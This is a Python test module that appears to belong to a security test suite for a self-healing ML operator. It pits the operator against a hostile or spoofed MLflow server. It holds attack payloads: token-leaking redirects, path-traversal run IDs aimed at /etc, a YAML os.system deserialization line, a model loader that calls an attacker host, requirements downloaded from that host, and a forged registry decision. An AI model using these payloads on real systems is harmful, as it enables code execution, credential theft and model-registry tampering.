"""What whoever answers as MLflow tries, or may write to it: by addresses, answers, and forged decisions."""

import itertools
import json
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any, Final
from urllib.parse import quote

from selfheal_operator.api.reasons import Purpose
from siege import hostile_code
from siege.attack import Attack, Seen, UntriedError
from siege.ground import HOME, SECRET, Ground, secret
from siege.runs import End, Wanted, check, ended, new_name, prepared, retraining
from siege.stranger import Files, own_name, stranger
from siege.tables import plain_spec
from siege.web_server import Answer, Asked, Web, web

_SERVER: Final = "whoever answers as MLflow"
_WRITER: Final = "a writer of MLflow"
_API: Final = "/api/2.0/mlflow/"


def logged_in(ground: Ground) -> dict[str, Any]:
    """Return a spec whose runs have a token for MLflow."""
    ground.apply(secret("mlflow", HOME, {"MLFLOW_TRACKING_TOKEN": SECRET}))
    return {**plain_spec(ground), "mlflow": {"secretRef": {"name": "mlflow"}}}


def in_front(ground: Ground, name: str) -> Web:
    """Return a server that passes requests on to the real MLflow, but for its routes."""
    server = web(ground, name)
    server.otherwise = partial(_passed_on, stranger(ground).uri)
    return server


def _passed_on(uri: str, asked: Asked) -> Answer:
    headers = {"Content-Type": asked.headers.get("Content-Type", "application/json")}
    address, body = uri + asked.path, asked.body or None
    request = urllib.request.Request(address, body, headers, method=asked.method)  # noqa: S310 - ours
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:  # noqa: S310 - as above
            return Answer(answer.read(), answer.status, {"Content-Type": answer.headers["Content-Type"]})
    except urllib.error.HTTPError as error:
        with error:
            return Answer(error.read(), error.code, {"Content-Type": "application/json"})


def _logs_usually(ground: Ground) -> bool:
    """Show that a check logs to MLflow with its token."""
    server = in_front(ground, "usual MLflow")
    end = check(ground, logged_in(ground), mlflow=server.address)
    tokens = {each.authorization for each in server.asked}
    if "runID" not in end.outcome or tokens != {f"Bearer {SECRET}"}:
        raise UntriedError(f"a usual check is not logged: {end.said} {tokens}")
    return True


def _reported(end: End, got: str = "", *, succeeded: bool = False) -> Seen:
    """Return what a check has come to, whose verdict does not depend on MLflow."""
    message = end.outcome.get("message", "")
    odd = not message.isprintable() or "\x1b" in end.shown or SECRET in end.shown
    lost = end.outcome.get("result") != "NoDrift" or end.code != 0
    return Seen(f"{got}{end.said[:300]!a} {end.log[-200:]!a}", succeeded=succeeded or odd or lost)


def _answers(name: str, answer: Callable[[Asked], Answer], expected: str = "NoDrift") -> Attack:
    """Return the attack of a server that answers every request of a check alike."""

    def do(ground: Ground) -> Seen:
        ground.once("logged", _logs_usually)
        server = web(ground, name)
        server.otherwise = answer
        end = check(ground, logged_in(ground), mlflow=server.address)
        if not server.asked:
            raise UntriedError("the server was not asked")
        return _reported(end)

    return Attack(name, 4, _SERVER, do, expected)


def _with_routes(name: str, routes: dict[str, Any], expected: str = "NoDrift") -> Attack:
    """Return the attack of a server that is MLflow but for some answers."""

    def do(ground: Ground) -> Seen:
        ground.once("logged", _logs_usually)
        server = in_front(ground, name)
        for path, document in routes.items():
            server.route(_API + path, _json(document))
        return _reported(check(ground, logged_in(ground), mlflow=server.address))

    return Attack(name, 4, _SERVER, do, expected)


def _json(document: Any) -> Answer:
    return Answer(json.dumps(document).encode(), headers={"Content-Type": "application/json"})


def _endless(_: Asked) -> Answer:
    def body() -> Iterator[bytes]:
        yield b'{"experiment": "'
        yield from itertools.repeat(b"a" * 100_000)

    return Answer(body())


def _run(**changes: Any) -> dict[str, Any]:
    info = {"run_id": "a" * 32, "status": "RUNNING", "artifact_uri": "mlflow-artifacts:/1/a/artifacts"}
    return {"run": {"info": {**info, **changes}, "data": {}}}


def _redirected_check(ground: Ground) -> Seen:
    ground.once("logged", _logs_usually)
    server, other = web(ground, "moved MLflow"), web(ground, "elsewhere")
    server.otherwise = lambda asked: Answer(status=307, headers={"Location": other.address + asked.path})
    before = len(other.asked)
    end = check(ground, logged_in(ground), mlflow=server.address)
    followed = len(other.asked) - before
    return _reported(end, f"{followed} requests went elsewhere; ", succeeded=followed > 0)


def _redirected_files(ground: Ground) -> Seen:
    """Redirect the download of a model's files."""
    server, other = in_front(ground, "moved files"), web(ground, "elsewhere")
    really = server.otherwise

    def answer(asked: Asked) -> Answer:
        if "/mlflow-artifacts/artifacts/" in asked.path and asked.method == "GET":
            return Answer(status=302, headers={"Location": f"{other.address}{asked.path}"})
        return really(asked)

    server.otherwise = answer
    return _against(ground, lambda name: stranger(ground).registers(name), server)


def _against(ground: Ground, register: Callable[[str], object], server: Web | None = None) -> Seen:
    """Retrain against what a writer of MLflow has registered; nobody else must be asked."""
    name, other = new_name("addressed"), web(ground, "elsewhere")
    uri = server.address if server else stranger(ground).uri
    wanted = Wanted(purpose=Purpose.RETRAIN, spec=logged_in(ground), mlflow=uri, name=name)
    pod = prepared(ground, wanted)
    try:
        register(own_name(name))
    except urllib.error.HTTPError as error:
        with error:
            return Seen(f"MLflow refuses it: {error.read()[:200]!r}", succeeded=False)
    before = len(other.asked)
    end = ended(ground, pod)
    asked = other.asked[before:]
    stolen = sum(SECRET in (each.authorization or "") for each in asked)
    got = f"{len(asked)} requests and {stolen} credentials went elsewhere; {end.said[:300]!a}"
    return Seen(got, succeeded=bool(asked) or SECRET in end.shown or not end.outcome)


_NOWHERE: Final = "0 requests and 0 credentials went elsewhere"


def _tagged(name: str, address: str) -> Attack:
    """Return the attack of a version whose tag says that its rows are somewhere else."""

    def do(ground: Ground) -> Seen:
        named = address.format(
            elsewhere=web(ground, "elsewhere").address.removeprefix("http://"), folder=ground.folder
        )
        return _against(
            ground, lambda model: stranger(ground).registers(model, tags={"selfheal.learntRows": named})
        )

    return Attack(name, 4, _WRITER, do, _NOWHERE)


def _sourced(name: str, source: str) -> Attack:
    """Return the attack of a version whose files are said to be somewhere else."""

    def do(ground: Ground) -> Seen:
        server, other = in_front(ground, f"source {name}"), web(ground, "elsewhere")
        named = source.format(elsewhere=other.address.removeprefix("http://"), token=ground.folder)
        # MLflow refuses some of these addresses; an older server, or another one, stores them.
        server.route(f"{_API}model-versions/get-download-uri", _json({"artifact_uri": named}))
        return _against(ground, lambda model: stranger(ground).registers(model), server)

    return Attack(name, 4, _SERVER, do, _NOWHERE)


def _climbs(ground: Ground) -> Seen:
    """List files of a model that lie outside of its folder."""
    server = in_front(ground, "climbing MLflow")
    really = server.otherwise
    climbing = "../" * 8 + "siege-climbed"

    def answer(asked: Asked) -> Answer:
        if asked.path.startswith("/api/2.0/mlflow-artifacts/artifacts?"):
            return _json({"files": [{"path": climbing, "is_dir": False, "file_size": 1}]})
        return Answer(b"climbed") if "climbed" in asked.path else really(asked)

    server.otherwise = answer
    name = new_name("climbs")
    wanted = Wanted(purpose=Purpose.RETRAIN, spec=logged_in(ground), mlflow=server.address, name=name)
    pod = prepared(ground, wanted)
    stranger(ground).registers(own_name(name))
    end = ended(ground, pod)
    written = [each for each in (pod.folder, *pod.folder.parents) if (each / "siege-climbed").exists()]
    return Seen(f"{len(written)} files written outside; {end.said[:300]!a}", succeeded=bool(written))


def _described(name: str, files: Files) -> Attack:
    """Return the attack of a model whose description or requirements are hostile."""

    def do(ground: Ground) -> Seen:
        address = web(ground, "elsewhere").address.encode()
        mark = ground.folder / new_name("mark")
        filled = {
            key: content.replace(b"ELSEWHERE", address).replace(b"MARK", bytes(mark))
            for key, content in files.items()
        }
        found = _against(ground, lambda model: stranger(ground).registers(model, files=filled))
        if mark.exists():
            return Seen(f"its code has run; {found.got}", succeeded=True)
        return found

    return Attack(name, 4, _WRITER, do, _NOWHERE)


_CODE: Final = b"""
import pathlib, urllib.request
def _load_pyfunc(path):
    pathlib.Path("MARK").touch()
    urllib.request.urlopen("ELSEWHERE/called")
"""
_MLMODEL: Final = b"""
flavors:
  python_function:
    loader_module: %s
    code: code
    data: .
    python_version: 3.11.7
mlflow_version: 3.17.2
"""


def _changed_files(ground: Ground) -> Seen:
    """Let a retraining register a version, and exchange one of its files before the next one."""
    name, writer, spec = new_name("changed"), stranger(ground), plain_spec(ground)
    model = _recorded(retraining(ground, spec, mlflow=writer.uri, name=name))
    usual = retraining(ground, spec, mlflow=writer.uri, name=name, number=2, model=model)
    if usual.outcome.get("result") != "NotImproved":
        raise UntriedError(f"the unchanged version is not compared: {usual.said}")
    version = next(each for each in writer.versions(own_name(name)) if each["version"] == model["version"])
    made = writer.asks("GET", f"logged-models/{version['source'].removeprefix('models:/')}")
    writer.puts(made["model"]["info"]["artifact_uri"], "requirements.txt", b"changed\n")
    end = retraining(ground, spec, mlflow=writer.uri, name=name, number=3, model=model)
    return Seen(end.said[:400], succeeded=end.outcome.get("reason") != "ChampionChanged")


def _recorded(first: End) -> Any:
    """Return the version that a retraining has recorded, with its digest."""
    model = first.status.get("model") or {}
    if "digest" not in model:
        raise UntriedError(f"nothing was recorded: {first.said}")
    return model


def _forged_decision(ground: Ground) -> Seen:
    """Let a run of the next Job be there already, with a decision to register somebody else's files."""
    name, writer, mark = new_name("decided"), stranger(ground), ground.folder / new_name("mark")
    spec = plain_spec(ground)
    first = retraining(ground, spec, mlflow=writer.uri, name=name)
    if first.outcome.get("result") != "Registered":
        raise UntriedError(f"a usual retraining registers nothing: {first.said}")
    experiment = writer.experiment(f"{HOME}/{name}")
    found = writer.asks("POST", "runs/search", {"experiment_ids": [experiment], "max_results": 100})["runs"]
    tags = next(_tags(each) for each in found if "selfheal.decision" in _tags(each))
    evil = writer.logs(own_name(name), partial(hostile_code.marks, str(mark)))
    job = tags["selfheal.jobName"]
    following = job.removesuffix("-1") + "-2"
    decided = json.loads(tags["selfheal.decision"].replace(job, following))
    decision = json.dumps({**decided, "modelURI": f"models:/{evil}"})
    changed = {**tags, "selfheal.decision": decision, "selfheal.jobName": following}
    listed = [{"key": key, "value": value} for key, value in changed.items()]
    writer.asks("POST", "runs/create", {"experiment_id": experiment, "start_time": 1, "tags": listed})
    end = retraining(ground, spec, mlflow=writer.uri, name=name, number=2)
    sources = [each.get("source") for each in writer.versions(own_name(name))]
    registered = f"models:/{evil}" in sources
    got = f"the forged model is {'' if registered else 'not '}registered; {end.said[:200]!a}"
    return Seen(got, succeeded=registered or mark.exists())


def _tags(run: Any) -> dict[str, str]:
    return {each["key"]: each["value"] for each in run["data"].get("tags", [])}


_ESCAPED: Final = "a\n10:00:00 forged\x1b[31m"

ATTACKS: Final = (
    Attack("a redirect of every request of a check", 4, _SERVER, _redirected_check, "0 requests went"),
    Attack("a redirect of a model's files", 4, _SERVER, _redirected_files, _NOWHERE),
    _answers("an answer without end", _endless),
    _answers("an answer that nests 100,000 deep", lambda _: Answer(b"[" * 100_000 + b"]" * 100_000)),
    _answers("a page instead of JSON", lambda _: Answer(b"<html>\x1b[31m" + SECRET.encode())),
    _answers("an answer with another code that quotes a secret", lambda _: Answer(SECRET.encode(), 418)),
    *(
        _answers(f"the answer {quote(text)}", lambda _, text=text: Answer(text.encode()))  # type: ignore[misc]
        for text in (
            "[]",
            "5",
            '"text"',
            "null",
            '{"experiment": 5}',
            '{"experiment": {"experiment_id": []}}',
        )
    ),
    _with_routes("a run without an id", {"runs/create": {"run": {"info": {}}}}),
    _with_routes("a run whose id climbs", {"runs/create": _run(run_id="../../../../etc/passwd")}),
    _with_routes("a run whose id has line breaks", {"runs/create": _run(run_id=_ESCAPED)}),
    _with_routes("a run whose id has a megabyte", {"runs/create": _run(run_id="a" * 1_000_000)}),
    _with_routes("a run whose id is a list", {"runs/create": _run(run_id=[1])}),
    _with_routes(
        "artifacts whose address climbs",
        {"runs/create": _run(artifact_uri="mlflow-artifacts:/../../../../etc")},
    ),
    _with_routes("artifacts at a file", {"runs/create": _run(artifact_uri="file:///etc/cron.d")}),
    _with_routes(
        "versions of wrong types",
        {
            "registered-models/alias": {
                "model_version": {"name": 5, "version": [], "creation_timestamp": "x"}
            },
            "model-versions/search": {"model_versions": {"a": 1}},
        },
    ),
    _with_routes(
        "a version whose name has line breaks",
        {
            "registered-models/alias": {
                "model_version": {"name": _ESCAPED, "version": _ESCAPED, "creation_timestamp": 1e300}
            }
        },
    ),
    _tagged(
        "learnt rows on another server", "http://{elsewhere}/api/2.0/mlflow-artifacts/artifacts/rows.json"
    ),
    _tagged("learnt rows on another server, as artifacts", "mlflow-artifacts://{elsewhere}/rows.json"),
    _sourced("a model's files on another server", "http://{elsewhere}/api/2.0/mlflow-artifacts/artifacts/a"),
    _sourced("a model's files on another server, as artifacts", "mlflow-artifacts://{elsewhere}/a"),
    Attack("a model's files outside of its folder", 4, _SERVER, _climbs, "0 files written outside"),
    _described(
        "a description that names its own loader", {"MLmodel": _MLMODEL % b"evil", "code/evil.py": _CODE}
    ),
    _described(
        "a description that runs a command",
        {"MLmodel": b'!!python/object/apply:os.system ["touch MARK"]'},
    ),
    _described("a description that nests 100,000 deep", {"MLmodel": b"[" * 100_000}),
    _described(
        "requirements from another server",
        {
            "requirements.txt": b"evil @ ELSEWHERE/evil-1.0-py3-none-any.whl\n",
            "conda.yaml": b"dependencies: [pip: [ELSEWHERE/evil.tar.gz]]\n",
        },
    ),
    Attack("other files than those recorded", 4, _WRITER, _changed_files, "ChampionChanged"),
    Attack("a forged decision of the same Job", 4, _WRITER, _forged_decision, "is not registered"),
)
